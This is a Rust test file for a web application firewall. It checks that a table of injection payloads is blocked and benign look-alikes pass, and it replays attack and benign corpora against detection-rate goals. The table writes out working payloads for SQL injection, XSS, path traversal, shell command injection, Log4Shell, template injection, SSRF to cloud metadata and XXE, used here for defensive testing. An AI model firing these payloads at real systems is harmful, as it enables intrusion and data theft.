//! Detection quality: table-driven vectors per detector, libinjection's data files used in place,
//! and a replay of the development corpora (plus generated benign traffic and mutated attacks when
//! the Python tools can run) against the goals of issues 2 and 6.
//!
//! The shared corpora live in `../shared` beside the repository (`$CARGO_MANIFEST_DIR/../../shared`);
//! when they are absent the corpus tests say so and pass.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use waf_core::internals::url_decode;
use waf_core::{Action, Policy, Request, Scratch, SourceFile};

fn policy(sensitivity: u8) -> Policy {
    let sources: Vec<SourceFile> = waf_core::DEFAULT_RULES
        .iter()
        .map(|(n, t)| {
            let t = if *n == "settings.yaml" {
                t.replace("sensitivity: 2", &format!("sensitivity: {sensitivity}"))
            } else {
                t.to_string()
            };
            SourceFile::new(*n, t)
        })
        .collect();
    match Policy::from_sources(&sources) {
        Ok(p) => p,
        Err(e) => panic!("default policy does not compile: {e:?}"),
    }
}

thread_local! {
    static UNCACHED: std::cell::RefCell<Scratch> =
        std::cell::RefCell::new(Scratch::with_value_cache(0));
}

fn shared() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared");
    p.join("tools/build_dev_corpora.py").exists().then_some(p)
}

/// The rule id that blocked, if any.
fn verdict(
    p: &Policy,
    s: &mut Scratch,
    method: &str,
    uri: &str,
    h: &[(&str, &[u8])],
    body: &[u8],
) -> Option<String> {
    let req = Request {
        method,
        host: "",
        uri,
        headers: h,
        body,
        body_truncated: false,
        client_ip: None,
        country: None,
    };
    let v = p.inspect(&req, s);
    // The worker's cache of clean values (`s` is shared by every request of a test) must not
    // change any verdict: the same request through a scratch without it.
    let fresh = UNCACHED.with(|u| p.inspect(&req, &mut u.borrow_mut()));
    assert_eq!(
        (fresh.action, fresh.matched.map(|m| m.rule_id)),
        (v.action, v.matched.as_ref().map(|m| m.rule_id.clone())),
        "the value cache changed the verdict for {method} {uri}"
    );
    let blocks = |a: Action| matches!(a, Action::Block | Action::Challenge);
    if !body.is_empty() {
        // waf-proxy's two passes (headers in request_filter, then only the body once it is
        // buffered) must reach the same outcome as one pass over the whole request.
        let head = p.inspect(&Request { body: b"", ..req }, s);
        let two = if blocks(head.action) || (head.action == Action::Allow && head.matched.is_some())
        {
            head.action
        } else {
            p.inspect_body(&req, s).action
        };
        assert_eq!(
            blocks(two),
            blocks(v.action),
            "two-pass verdict differs for {method} {uri}"
        );
    }
    blocks(v.action).then(|| v.matched.map(|m| m.rule_id).unwrap_or_default())
}

fn get(p: &Policy, s: &mut Scratch, param: &str) -> Option<String> {
    let enc: String = param.bytes().map(|b| format!("%{b:02X}")).collect();
    verdict(p, s, "GET", &format!("/search?q={enc}"), &[], b"")
}

#[test]
fn detector_vectors() {
    let p = policy(2);
    let mut s = Scratch::new();
    // (value sent as ?q=, expected rule id or "" for pass)
    let table: &[(&str, &str)] = &[
        // SQLi: libinjection with evidence (2001), signatures (20xx).
        ("1' OR '1'='1", "2001"),
        ("1 UNION SELECT username, password FROM users--", "2001"),
        ("A' RLIKE 'B", "2003"),
        (
            "-1134') OR JSON_EXTRACT('{}', '$.a') = 1 AND ('a' LIKE 'a",
            "2018",
        ),
        ("or 0=0 --", "2004"),
        ("1*/ OR NOT 4627=6270/*", "2004"),
        ("rock and roll = fun", ""),
        ("O'Brien", ""),
        ("80% ACRYLIC AND 20% WOOL", ""),
        ("CHRISTMAS STOCKING \"NOT\" STUFFER", ""),
        ("select x from y where", ""),
        ("Order by price or by date? Either works.", ""),
        // XSS.
        ("<script>alert(1)</script>", "3001"),
        ("<DEtAiLs/+/oNTogglE+=+(confirm)()>", "3018"),
        ("window.onload = init; <b>online</b>", ""),
        ("<img src=x onerror=alert(1)>", "3001"),
        ("javascript:alert(document.cookie)", "3011"),
        ("alert?.(document?.cookie)", "3015"),
        ("BLAH <A HREF=\"/PATH1/PATH2\">FOO</A>", ""),
        ("JavaScript: Basics of JavaScript Language", ""),
        (
            "**Bold** and [a link](https://example.com/docs?page=2#install)",
            "",
        ),
        // Traversal / LFI.
        ("../../../../etc/passwd", "4000"),
        (
            "%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd",
            "4000",
        ),
        (
            "php://filter/convert.base64-encode/resource=index.php",
            "4002",
        ),
        ("see ../README.md for details", ""),
        ("....etcpasswd", "4003"),
        ("c:windowswin.ini", "4003"),
        ("...and more to come", ""),
        // RCE.
        ("; cat /etc/passwd", "5000"),
        ("|getent+hosts+example.com&", "5000"),
        ("$(printf 'x'|rev)", "5002"),
        ("() { :; }; /bin/bash -c id", "5001"),
        ("!!python/object/new:exec [import os]", "5003"),
        ("{,echo,#test}", "5005"),
        ("{cat,/etc/passwd}", "5005"),
        ("pi<()ng 127.0.0.1", "5005"),
        ("bin/visudo", "5005"),
        ("garb=adduse[r];$garb pizza", "5000"),
        (";find /etc -name passwd -exec cat {} +", "5000"),
        ("{id,name}", ""),
        ("find the -best -deals on new cars", ""),
        ("price=5; $price is what you pay", ""),
        (
            "The Senora found herself a heroine; more than that, she became aware",
            "",
        ),
        (
            "rm -rf is dangerous; chmod 755 is what you want for the uploads folder.",
            "",
        ),
        (
            "Use `git log --oneline` to see the history, then `git rebase -i HEAD~3`.",
            "",
        ),
        // Code injection, SSTI, SSRF, XXE, NoSQL, CRLF, LDAP, mail, SSI.
        ("${jndi:ldap://example.com/a}", "6100"),
        ("$${env:a:-${env:b:-$}{jndi:ldap://example.com/a}}}", "6104"),
        ("com.sun.org.apache", "6103"),
        ("@{[ system 'id' ]}", "5006"),
        ("email me @{work} or [home]", ""),
        ("_$$ND_FUNC$$_function(){}", "5007"),
        ("#{require.main.constructor._load('fs')}", "5007"),
        ("Load environment variables from .env into process.env", ""),
        ("java.io.BufferedReader", "6103"),
        ("java.lang.NullPointerException", ""),
        ("see java.io.File for details", ""),
        ("(sy.(st).em)('uname');", "6003"),
        ("exec /*x*/ ('id')", "6003"),
        ("Upload a file (max 2MB)", ""),
        ("<? echo 'hi'; ?>", "6004"),
        ("result = (x < 5) ? yes : no", ""),
        ("$_GET['a']($_POST['b'])", "6007"),
        ("this.$emit('save', item)", ""),
        ("while(!false);", "5008"),
        ("keep going while (true) believers stay", ""),
        ("{{7*7}}", "6201"),
        ("{{ ''.__class__.__mro__ }}", "6200"),
        ("http://169.254.169.254/latest/meta-data/", "7000"),
        ("gopher://127.0.0.1:6379/_INFO", "7001"),
        ("http://0xA9.0xFE.0xA9.0xFE/latest/", "7003"),
        ("http://[::ffff:7f00:1]:8080/admin", "7003"),
        ("https://intranet.example:8080/status", ""),
        (
            "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
            "7100",
        ),
        (
            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADw-a+AD4-",
            "7102",
        ),
        (
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>7</id></order>",
            "",
        ),
        ("{\"$where\": \"sleep(1000)\"}", "8001"),
        ("x\r\nSet-Cookie: a=b", "8100"),
        ("*)(uid=*))(|(uid=*", "8200"),
        ("john)(sn~=smith", "8200"),
        ("100)(gidNumber<=100", "8200"),
        ("(see the notes) (page 3)", ""),
        ("\r\nRCPT TO: test@evil.com\r\n", "8300"),
        ("<!--#exec cmd=\"ls\" -->", "8400"),
        ("<esi:include src=\"http://evil.example/x\"/>", "8401"),
        ("<ESI:vars>$(HTTP_COOKIE)</esi:vars>", "8401"),
        ("Our CDN supports ESI; see the esi:include docs", ""),
        ("Meet me at 10; bring the report & the slides", ""),
        (
            "Dear team,\nFrom: Sales <sales@example.com>\nSubject: your order",
            "",
        ),
    ];
    let mut bad = Vec::new();
    for (value, want) in table {
        let got = get(&p, &mut s, value).unwrap_or_default();
        let ok = if want.is_empty() {
            got.is_empty()
        } else {
            !got.is_empty()
        };
        if !ok {
            bad.push(format!("{value:?}: want {want:?}, got {got:?}"));
        }
    }
    // A hidden directory in the URL path (4004); the published one passes.
    for (path, want) in [
        ("/.claude/settings.json", true),
        ("/app/.docker/config.json", true),
        ("/.well-known/security.txt", false),
        ("/static/v1.2/app.js", false),
    ] {
        let got = verdict(&p, &mut s, "GET", path, &[], b"");
        if got.is_some() != want {
            bad.push(format!("{path:?}: want blocked {want}, got {got:?}"));
        }
    }
    assert!(bad.is_empty(), "vectors failed:\n{}", bad.join("\n"));
}

#[test]
fn libinjection_data_in_place() {
    let Some(sh) = shared() else {
        eprintln!("../shared not found; skipping");
        return;
    };
    let p = policy(2);
    let mut s = Scratch::new();
    let dir = sh.join("corpora/libinjection/data");
    let Ok(rd) = std::fs::read_dir(&dir) else {
        eprintln!("{} not found; skipping", dir.display());
        return;
    };
    let mut files: Vec<PathBuf> = rd.filter_map(Result::ok).map(|e| e.path()).collect();
    files.sort();
    for f in files {
        let name = f
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let benign = name.starts_with("false_positives");
        if !(benign || name.starts_with("sqli-") || name.starts_with("xss-")) {
            continue;
        }
        let text = std::fs::read(&f)
            .map(|b| String::from_utf8_lossy(&b).into_owned())
            .unwrap_or_default();
        let (mut n, mut blocked) = (0usize, 0usize);
        for line in text
            .lines()
            .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        {
            let v = url_decode(line, true);
            n += 1;
            blocked += usize::from(get(&p, &mut s, &v).is_some());
        }
        let rate = blocked as f64 * 100.0 / n.max(1) as f64;
        if benign {
            assert!(rate <= 0.5, "{name}: {rate:.2}% of benign lines blocked");
        } else if n >= 20 {
            assert!(rate >= 95.0, "{name}: only {rate:.2}% detected");
        }
    }
}

/// Per category: (requests, blocked).
type Stats = BTreeMap<String, (usize, usize)>;

fn replay(p: &Policy, file: &Path) -> Stats {
    let mut s = Scratch::new();
    let mut out = Stats::new();
    let text = std::fs::read_to_string(file).unwrap_or_default();
    for line in text.lines() {
        let Ok(r) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        let headers: Vec<(String, String)> = r["headers"]
            .as_object()
            .map(|m| {
                m.iter()
                    .map(|(k, v)| (k.clone(), v.as_str().unwrap_or("").to_string()))
                    .collect()
            })
            .unwrap_or_default();
        let h: Vec<(&str, &[u8])> = headers
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_bytes()))
            .collect();
        let b = verdict(
            p,
            &mut s,
            r["method"].as_str().unwrap_or("GET"),
            r["path"].as_str().unwrap_or("/"),
            &h,
            r["body"].as_str().unwrap_or("").as_bytes(),
        );
        let e = out
            .entry(r["category"].as_str().unwrap_or("?").to_string())
            .or_default();
        e.0 += 1;
        e.1 += usize::from(b.is_some());
    }
    out
}

fn total(s: &Stats) -> (usize, usize) {
    s.values().fold((0, 0), |a, (n, b)| (a.0 + n, a.1 + b))
}

fn python(args: &[&str]) -> bool {
    Command::new("python3")
        .args(args)
        .output()
        .map(|o| {
            if !o.status.success() {
                eprintln!(
                    "python3 {args:?} failed: {}",
                    String::from_utf8_lossy(&o.stderr)
                );
            }
            o.status.success()
        })
        .unwrap_or(false)
}

#[test]
fn corpora_meet_detection_goals() {
    let Some(sh) = shared() else {
        eprintln!("../shared not found; skipping");
        return;
    };
    let dir = std::env::temp_dir().join(format!("waf-detect-{}", std::process::id()));
    let d = dir.to_string_lossy().into_owned();
    let build = sh.join("tools/build_dev_corpora.py");
    assert!(
        python(&[&build.to_string_lossy(), &d]),
        "build_dev_corpora.py failed (needs PyYAML)"
    );
    let p = policy(2);
    let mal = replay(&p, &dir.join("malicious.jsonl"));
    let ben = replay(&p, &dir.join("benign.jsonl"));
    let (n, b) = total(&mal);
    let tpr = b as f64 * 100.0 / n as f64;
    let (bn, bb) = total(&ben);
    let pass = 100.0 - bb as f64 * 100.0 / bn as f64;
    eprintln!("default sensitivity: detection {tpr:.2}% of {n}, benign pass {pass:.2}% of {bn}");
    // The targets: overall, per category, benign.
    assert!(tpr >= 98.0, "detection {tpr:.2}%");
    assert!(pass >= 99.5, "benign pass {pass:.2}%");
    let weak: Vec<String> = mal
        .iter()
        .filter(|(_, (n, b))| (*b as f64 * 100.0 / *n as f64) < 95.0)
        .map(|(c, (n, b))| format!("{c}: {b}/{n}"))
        .collect();
    assert!(weak.is_empty(), "categories under 95%: {weak:?}");

    // Mutations (every 4th attack, to keep the suite fast).
    let here = Path::new(env!("CARGO_MANIFEST_DIR")).join("../bench/detect");
    let mutate = here.join("mutate.py").to_string_lossy().into_owned();
    let mfile = dir.join("mutated.jsonl");
    let m = dir.join("malicious.jsonl").to_string_lossy().into_owned();
    if python(&[&mutate, &m, &mfile.to_string_lossy(), "--every", "4"]) {
        let (n, b) = total(&replay(&p, &mfile));
        let rate = b as f64 * 100.0 / n.max(1) as f64;
        eprintln!("mutated attacks: detection {rate:.2}% of {n}");
        assert!(rate >= 95.0, "mutated detection {rate:.2}%");
    }
    // Generated benign traffic, when Faker is installed (bench/detect/run.sh installs it).
    let gen = here.join("gen_benign.py").to_string_lossy().into_owned();
    let gfile = dir.join("generated.jsonl");
    if python(&["-c", "import faker, fake_useragent"])
        && python(&[&gen, &gfile.to_string_lossy(), "--n", "100"])
    {
        let (n, b) = total(&replay(&p, &gfile));
        let pass = 100.0 - b as f64 * 100.0 / n.max(1) as f64;
        eprintln!("generated benign: pass {pass:.2}% of {n}");
        assert!(pass >= 99.5, "generated benign pass {pass:.2}%");
    } else {
        eprintln!("Faker/fake-useragent not installed; generated traffic skipped");
    }
    let _ = std::fs::remove_dir_all(&dir);
}
